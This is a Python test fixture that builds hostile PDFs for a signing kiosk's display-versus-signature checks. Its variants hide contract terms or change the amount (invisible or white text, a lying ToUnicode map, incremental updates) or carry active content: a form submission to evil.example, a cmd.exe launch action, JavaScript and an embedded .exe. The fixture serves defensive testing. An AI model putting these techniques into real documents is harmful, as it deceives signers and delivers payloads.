"""PDFs whose text layer (what the kiosk shows) and rendering (what is signed) disagree, built as raw
bytes on the spot, and honest ones built the same way; see tests/proofs/test_wysiwyg.py."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable

from tests.proofs.pdfs import build

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
HONEST_TEXT = (
    b"BT /F1 14 Tf 72 760 Td (Laneavtale for Kari Nordmann) Tj 0 -24 Td (Kunden skal betale 10 000 kr per maned.) Tj ET"
)
HIDDEN = b"(Kunden gir avkall pa angreretten) Tj"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def page(resources: bytes = b"", boxes: bytes = b"/MediaBox [0 0 595 842]", annots: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R %s /Resources << /Font << /F1 5 0 R >> %s >> /Contents 4 0 R %s >>" % (
        boxes,
        resources,
        annots,
    )


def one_page(content: bytes, *extra: bytes, catalog: bytes = CATALOG, **page_kw: bytes) -> bytes:
    """Objects 1-5: catalog, page tree, the page, its content, Helvetica; `extra` from 6 on."""
    return build([catalog, PAGES, page(**page_kw), stream(content), FONT, *extra])


def honest() -> bytes:
    return one_page(HONEST_TEXT)


def _with_hidden(prefix: bytes, suffix: bytes = b"") -> bytes:
    return HONEST_TEXT + b"\n" + prefix + b" BT /F1 14 Tf 72 700 Td " + HIDDEN + b" ET " + suffix


# -- text the page does not show -----------------------------------------------------------------


def invisible_render_mode_3() -> bytes:
    return one_page(_with_hidden(b"3 Tr"))


def invisible_render_mode_7() -> bytes:
    return one_page(_with_hidden(b"7 Tr"))


def outside_the_crop_box() -> bytes:
    return one_page(_with_hidden(b""), boxes=b"/MediaBox [0 0 595 842] /CropBox [0 720 595 842]")


def outside_the_media_box() -> bytes:
    content = HONEST_TEXT + b"\nBT /F1 14 Tf -900 300 Td " + HIDDEN + b" ET"
    return one_page(content)


def white_on_white_gray() -> bytes:
    return one_page(_with_hidden(b"1 g"))


def white_on_white_rgb() -> bytes:
    return one_page(_with_hidden(b"1 1 1 rg"))


def white_on_white_cmyk_in_a_form() -> bytes:
    form = b"BT 0 0 0 0 k /F1 14 Tf 72 700 Td " + HIDDEN + b" ET"
    return one_page(
        HONEST_TEXT + b"\n/Fm1 Do",
        stream(form, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"),
        resources=b"/XObject << /Fm1 6 0 R >>",
    )


def transparent_text() -> bytes:
    return one_page(
        _with_hidden(b"/Clear gs"), b"<< /Type /ExtGState /ca 0 /CA 0 >>", resources=b"/ExtGState << /Clear 6 0 R >>"
    )


def tiny_text() -> bytes:
    return one_page(HONEST_TEXT + b"\nBT /F1 0.3 Tf 72 700 Td " + HIDDEN + b" ET")


def covered_by_a_rectangle() -> bytes:
    return one_page(_with_hidden(b"", b"1 g 60 690 480 30 re f"))


def covered_by_an_image() -> bytes:
    white_pixel = stream(
        b"\xff", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    return one_page(
        _with_hidden(b"", b"q 480 0 0 30 60 690 cm /Im1 Do Q"), white_pixel, resources=b"/XObject << /Im1 6 0 R >>"
    )


def clipped_away() -> bytes:
    return one_page(HONEST_TEXT + b"\nq 0 0 1 1 re W n BT /F1 14 Tf 72 700 Td " + HIDDEN + b" ET Q")


def lying_to_unicode_map() -> bytes:
    """The page shows "90 000 kr"; the font's ToUnicode map says the 9 is a 1, so the text reads "10 000 kr"."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Lie def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange\n"
        b"1 beginbfrange <20> <7E> <0020> endbfrange\n"
        b"1 beginbfchar <39> <0031> endbfchar\n"
        b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 6 0 R >>"
    content = b"BT /F1 14 Tf 72 760 Td (Laneavtale for Kari Nordmann) Tj 0 -24 Td (Kunden skal betale 90 000 kr.) Tj ET"
    return build([CATALOG, PAGES, page(), stream(content), font, stream(cmap)])


def free_text_annotation() -> bytes:
    """An annotation's appearance draws words the text layer (page content only) does not have."""
    appearance = b"BT /F1 14 Tf 2 8 Td (og gir avkall pa angreretten) Tj ET"
    return one_page(
        HONEST_TEXT,
        b"<< /Type /Annot /Subtype /FreeText /Rect [72 690 400 720] /F 4 /DA (/F1 14 Tf 0 g) /Contents ()"
        b" /AP << /N 7 0 R >> >>",
        stream(appearance, b"/Type /XObject /Subtype /Form /BBox [0 0 328 30] /Resources << /Font << /F1 5 0 R >> >>"),
        annots=b"/Annots [6 0 R]",
    )


# -- changed after it was saved --------------------------------------------------------------------


def incremental_update(original: bytes, number: int, body: bytes) -> bytes:
    """`original` with object `number` replaced by `body` in an appended revision (after its %%EOF)."""
    size = int(re.findall(rb"/Size (\d+)", original)[-1])
    prev = int(re.findall(rb"startxref\s+(\d+)", original)[-1])
    offset = len(original)
    update = b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = offset + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, offset)
    update += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, prev, xref)
    return original + update


def update_changes_the_amount() -> bytes:
    changed = HONEST_TEXT.replace(b"10 000", b"990 000")
    return incremental_update(honest(), 4, stream(changed))


def update_swaps_the_font() -> bytes:
    return incremental_update(honest(), 5, FONT.replace(b"Helvetica", b"Courier"))


def data_after_the_end() -> bytes:
    return honest() + b"4 0 obj\n" + stream(HONEST_TEXT.replace(b"10 000", b"990 000")) + b"\nendobj\n"


# -- active and remote content ---------------------------------------------------------------------


def _open_action(action: bytes) -> bytes:
    return one_page(HONEST_TEXT, action, catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>")


def open_action_submit_form() -> bytes:
    return _open_action(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>")


def open_action_goto_remote() -> bytes:
    return _open_action(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")


def open_action_goto_embedded() -> bytes:
    return _open_action(b"<< /S /GoToE /T << /R /C /N (vedlegg) >> /D [0 /Fit] >>")


def open_action_launch() -> bytes:
    return _open_action(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>")


def open_action_uri() -> bytes:
    return _open_action(b"<< /S /URI /URI (https://evil.example/opened) >>")


def open_action_import_data() -> bytes:
    return _open_action(b"<< /S /ImportData /F (felt.fdf) >>")


def open_action_javascript() -> bytes:
    return _open_action(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def page_open_set_ocg_state() -> bytes:
    return one_page(HONEST_TEXT, b"<< /S /SetOCGState /State [/OFF] >>", annots=b"/AA << /O 6 0 R >>")


def link_to_a_file() -> bytes:
    return one_page(
        HONEST_TEXT,
        b"<< /Type /Annot /Subtype /Link /Rect [72 750 400 780] /A << /S /URI /URI (file:///C:/avtale.exe) >> >>",
        annots=b"/Annots [6 0 R]",
    )


_ATTACHMENT = b"MZ" + b"\0" * 62
# Objects 7 and 8: a file specification of x.exe and the embedded file itself.
_FILESPEC_AND_FILE = (
    b"<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(_ATTACHMENT), _ATTACHMENT),
)


def embedded_file() -> bytes:
    """An attachment in the catalog's name tree: signed with the pages, shown nowhere (an outside
    probe had pypdf's `add_attachment` signed)."""
    return one_page(
        HONEST_TEXT,
        b"<< /Names [(x.exe) 7 0 R] >>",
        *_FILESPEC_AND_FILE,
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
    )


def file_attachment_annotation() -> bytes:
    return one_page(
        HONEST_TEXT,
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 750 90 770] /FS 7 0 R >>",
        *_FILESPEC_AND_FILE,
        annots=b"/Annots [6 0 R]",
    )


# -- a PDF by another name -------------------------------------------------------------------------


def leading_newline() -> bytes:
    return b"\n" + honest()


def junk_before_the_header() -> bytes:
    return b"Kvittering\r\n" * 40 + open_action_submit_form()


def no_header_at_all() -> bytes:
    return re.sub(rb"^%PDF-1\.7\n", b"", open_action_javascript())


def compressed_white_text() -> bytes:
    """White text in a Flate-compressed content stream: the check reads the decoded content."""
    data = zlib.compress(_with_hidden(b"1 g"))
    return build([CATALOG, PAGES, page(), stream(data, b"/Filter /FlateDecode"), FONT])


# (name, content type it is sent with, builder)
HOSTILE: list[tuple[str, str, Callable[[], bytes]]] = [
    ("render-mode-3", "application/pdf", invisible_render_mode_3),
    ("render-mode-7", "application/pdf", invisible_render_mode_7),
    ("outside-crop-box", "application/pdf", outside_the_crop_box),
    ("outside-media-box", "application/pdf", outside_the_media_box),
    ("white-gray", "application/pdf", white_on_white_gray),
    ("white-rgb", "application/pdf", white_on_white_rgb),
    ("white-cmyk-in-form", "application/pdf", white_on_white_cmyk_in_a_form),
    ("white-compressed", "application/pdf", compressed_white_text),
    ("transparent", "application/pdf", transparent_text),
    ("tiny", "application/pdf", tiny_text),
    ("covered-by-rectangle", "application/pdf", covered_by_a_rectangle),
    ("covered-by-image", "application/pdf", covered_by_an_image),
    ("clipped", "application/pdf", clipped_away),
    ("lying-tounicode", "application/pdf", lying_to_unicode_map),
    ("free-text-annotation", "application/pdf", free_text_annotation),
    ("update-changes-amount", "application/pdf", update_changes_the_amount),
    ("update-swaps-font", "application/pdf", update_swaps_the_font),
    ("data-after-eof", "application/pdf", data_after_the_end),
    ("open-submit-form", "application/pdf", open_action_submit_form),
    ("open-gotor", "application/pdf", open_action_goto_remote),
    ("open-gotoe", "application/pdf", open_action_goto_embedded),
    ("open-launch", "application/pdf", open_action_launch),
    ("open-uri", "application/pdf", open_action_uri),
    ("open-import-data", "application/pdf", open_action_import_data),
    ("open-javascript", "application/pdf", open_action_javascript),
    ("page-aa-set-ocg-state", "application/pdf", page_open_set_ocg_state),
    ("link-to-file", "application/pdf", link_to_a_file),
    ("embedded-file", "application/pdf", embedded_file),
    ("file-attachment-annotation", "application/pdf", file_attachment_annotation),
    ("leading-newline-octet-stream", "application/octet-stream", leading_newline),
    ("leading-newline-upper-case-type", "application/PDF", leading_newline),
    ("junk-before-header-octet-stream", "application/octet-stream", junk_before_the_header),
    ("no-header-octet-stream", "application/octet-stream", no_header_at_all),
    ("submit-form-as-text", "text/plain", open_action_submit_form),
    ("lying-tounicode-octet-stream", "application/octet-stream", lying_to_unicode_map),
]
